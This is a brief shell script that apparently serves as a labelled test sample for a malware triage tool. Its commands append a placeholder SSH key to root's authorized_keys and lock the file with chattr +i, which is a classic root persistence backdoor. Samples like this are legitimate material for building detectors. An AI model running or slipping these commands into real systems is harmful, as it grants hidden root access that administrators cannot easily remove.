#!/bin/sh
# triage-expect: triage_ssh_key_implanter
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCplaceholderplaceholder test@example" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
